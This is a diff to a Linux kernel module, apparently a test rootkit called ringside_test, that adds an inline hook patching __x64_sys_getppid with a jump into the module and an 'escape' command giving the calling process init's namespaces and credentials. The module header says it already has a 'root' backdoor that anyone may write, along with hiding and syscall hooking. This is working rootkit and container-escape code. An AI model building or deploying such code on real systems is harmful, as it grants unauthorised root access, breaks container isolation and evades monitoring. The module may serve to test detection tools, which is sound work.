@@ -14,9 +14,14 @@
  *   root               the writing process gets uid/gid 0 (prepare_creds + commit_creds)
  *   textpoke [symbol]  writes one byte of kernel text with the value it already has
  *                      (default symbol: __x64_sys_getppid)
+ *   texthook           an inline hook: __x64_sys_getppid starts with a jmp into this module,
+ *                      whose replacement does what getppid does
+ *   textunhook         puts the original bytes back
+ *   escape             a container escape: the writing process gets init's namespaces
+ *                      (init_nsproxy) and credentials (init_cred), as kernel exploits hand them
  *
  * Anyone may write "root" (it is a backdoor); the other commands need CAP_SYS_ADMIN. Reading the
- * file prints the module's state. Unloading undoes hook and hide.
+ * file prints the module's state. Unloading undoes hook, hide and texthook.
  *
  * Kernel symbols that are not exported (sys_call_table, tasklist_lock, _stext …) are found through
  * kallsyms_lookup_name, whose address the loader passes from /proc/kallsyms:
@@ -37,6 +42,7 @@
 #include <linux/kprobes.h>
 #include <linux/module.h>
 #include <linux/mutex.h>
+#include <linux/nsproxy.h>
 #include <linux/pid.h>
 #include <linux/proc_fs.h>
 #include <linux/rculist.h>
@@ -75,6 +81,10 @@ static struct task_struct *hidden_task;
 static pid_t hidden_pid;
 static unsigned long textpoke_address;
 static unsigned int textpoke_count;
+/* texthook: the patched function and the 8 bytes its start held (one aligned word is rewritten). */
+static unsigned long texthook_address;
+static unsigned long texthook_original;
+static unsigned int escapes;
 
 /* True if addr is the start of a core-kernel symbol ("name+0x0/0x…", not in a module). */
 static bool is_kernel_symbol_start(unsigned long addr, char *buffer)
@@ -345,6 +355,86 @@ static int textpoke(const char *symbol)
 	return 0;
 }
 
+/* What __x64_sys_getppid jumps to while hooked: getppid, done here. */
+static noinline long ringside_hooked_getppid(const struct pt_regs *regs)
+{
+	long ppid;
+
+	rcu_read_lock();
+	ppid = task_tgid_vnr(rcu_dereference(current->real_parent));
+	rcu_read_unlock();
+	return ppid;
+}
+
+/*
+ * An inline hook: the first 5 bytes of __x64_sys_getppid become `jmp ringside_hooked_getppid`,
+ * written as one aligned 8-byte store (the 3 bytes after the jmp keep their value), so no CPU
+ * executes a half-written instruction.
+ */
+static int texthook(void)
+{
+	char buffer[KSYM_SYMBOL_LEN];
+	unsigned long address, word;
+	s64 displacement;
+	u8 *bytes = (u8 *)&word;
+
+	if (!lookup_name || !kernel_text_start)
+		return -ENOENT;
+	if (texthook_address)
+		return -EBUSY;
+	address = lookup_name(DEFAULT_TEXTPOKE_SYMBOL);
+	if (!address || !is_kernel_function(address, buffer) || !IS_ALIGNED(address, 8))
+		return -EINVAL;
+	displacement = (s64)(unsigned long)ringside_hooked_getppid - (s64)(address + 5);
+	if (displacement != (s32)displacement)
+		return -ERANGE;
+	word = READ_ONCE(*(unsigned long *)address);
+	texthook_original = word;
+	bytes[0] = 0xe9;
+	memcpy(bytes + 1, &(s32){ (s32)displacement }, 4);
+	write_protected((void *)address, &word, sizeof(word));
+	texthook_address = address;
+	pr_info("ringside_test: %s (%px) jumps to ringside_hooked_getppid\n", buffer, (void *)address);
+	return 0;
+}
+
+static int textunhook(void)
+{
+	if (!texthook_address)
+		return -ENOENT;
+	write_protected((void *)texthook_address, &texthook_original, sizeof(texthook_original));
+	pr_info("ringside_test: restored the text of %ps\n", (void *)texthook_address);
+	texthook_address = 0;
+	return 0;
+}
+
+typedef void (*switch_namespaces_fn)(struct task_struct *task, struct nsproxy *namespaces);
+
+/*
+ * The payload of a container-escape exploit: the calling process gets init's namespaces and
+ * credentials (switch_task_namespaces(current, &init_nsproxy); commit_creds(&init_cred)).
+ */
+static int escape(void)
+{
+	switch_namespaces_fn switch_namespaces;
+	struct nsproxy *init_namespaces;
+	struct cred *init_credentials;
+
+	if (!lookup_name)
+		return -ENOENT;
+	switch_namespaces = (switch_namespaces_fn)lookup_name("switch_task_namespaces");
+	init_namespaces = (struct nsproxy *)lookup_name("init_nsproxy");
+	init_credentials = (struct cred *)lookup_name("init_cred");
+	if (!switch_namespaces || !init_namespaces || !init_credentials)
+		return -ENOENT;
+	get_nsproxy(init_namespaces);
+	switch_namespaces(current, init_namespaces);
+	escapes++;
+	pr_info("ringside_test: pid %d (%s) gets init's namespaces and credentials\n", current->pid,
+		current->comm);
+	return commit_creds((struct cred *)get_cred(init_credentials));
+}
+
 static int run_command(char *line)
 {
 	char *argument = strim(line);
@@ -367,6 +457,12 @@ static int run_command(char *line)
 		return unhide();
 	if (!strcmp(command, "textpoke"))
 		return textpoke(argument && *argument ? argument : DEFAULT_TEXTPOKE_SYMBOL);
+	if (!strcmp(command, "texthook"))
+		return texthook();
+	if (!strcmp(command, "textunhook"))
+		return textunhook();
+	if (!strcmp(command, "escape"))
+		return escape();
 	return -EINVAL;
 }
 
@@ -403,6 +499,12 @@ static int control_show(struct seq_file *file, void *unused)
 	else
 		seq_puts(file, "hidden none\n");
 	seq_printf(file, "textpoke %u last %ps\n", textpoke_count, (void *)textpoke_address);
+	if (texthook_address)
+		seq_printf(file, "texthook %ps jumps to %ps\n", (void *)texthook_address,
+			   (void *)ringside_hooked_getppid);
+	else
+		seq_puts(file, "texthook none\n");
+	seq_printf(file, "escapes %u\n", escapes);
 	mutex_unlock(&state_lock);
 	return 0;
 }
@@ -453,6 +555,8 @@ static void __exit ringside_test_exit(void)
 		unhook();
 	if (hidden_task)
 		unhide();
+	if (texthook_address)
+		textunhook();
 	mutex_unlock(&state_lock);
 	pr_info("ringside_test: unloaded\n");
 }
